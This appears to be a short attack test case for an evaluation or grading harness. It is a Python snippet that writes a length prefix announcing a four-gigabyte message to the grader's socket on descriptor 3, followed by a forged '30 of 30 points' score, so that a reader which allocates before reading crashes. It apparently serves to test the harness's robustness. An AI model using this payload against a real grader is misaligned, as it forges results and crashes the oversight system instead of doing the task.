# /// attack
# why = "Announces a message of four gigabytes, for whoever makes room before it reads."
# outcomes = ["crashed"]
# ///
import contextlib
import os
import socket


def channel():
    """Return the socket through which it is asked, where descriptor 3 is that."""
    return socket.socket(fileno=os.dup(3))


def answer(*args, **kwargs):
    with contextlib.suppress(OSError):
        channel().sendall(b"\xff\xff\xff\xff" + b"30 of 30 points")
    return -1


everywhere(answer)
